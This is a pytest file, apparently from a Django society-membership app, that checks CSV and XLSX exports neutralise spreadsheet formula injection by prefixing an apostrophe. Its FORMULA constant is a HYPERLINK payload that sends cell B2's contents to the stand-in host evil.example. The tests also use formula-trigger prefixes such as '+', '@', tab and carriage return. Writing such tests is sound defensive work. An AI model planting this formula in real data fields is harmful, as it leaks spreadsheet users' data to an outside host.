"""Issue 14 finding 1: a registrant named like a formula must reach the secretary's spreadsheet as text —
in the member export (CSV and XLSX) and in every table download (core.tabular)."""

import io

import pytest
from openpyxl import load_workbook

from core.tabular import safe_cell, table_response
from tests.factories import member_of
from tests.support.exports import xlsx_export

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_like_a_formula_is_neutralized(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "", None, -5, 3.5, "a=b"])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_csv_and_xlsx_downloads_carry_text_not_formulas():
    csv = table_response(["姓名"], [[FORMULA], [-5]], "csv", "t.csv").content.decode("utf-8-sig")
    assert csv.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?leak=""&B2,""点击查看"")"'
    assert csv.splitlines()[2] == "-5"
    xlsx = table_response(["姓名"], [[FORMULA]], "xlsx", "t.xlsx").content
    cell = load_workbook(io.BytesIO(xlsx)).active["A2"]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


@pytest.mark.django_db
def test_member_export_neutralizes_a_formula_name(
    login, secretary_a, society_a, django_capture_on_commit_callbacks
):
    member_of(society_a, name=FORMULA)
    client = login(secretary_a)
    csv = client.get(f"/societies/{society_a.pk}/members/export/csv/").getvalue().decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv
    xlsx = xlsx_export(client, society_a, django_capture_on_commit_callbacks)
    values = [c.value for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    assert "'" + FORMULA in values and FORMULA not in values
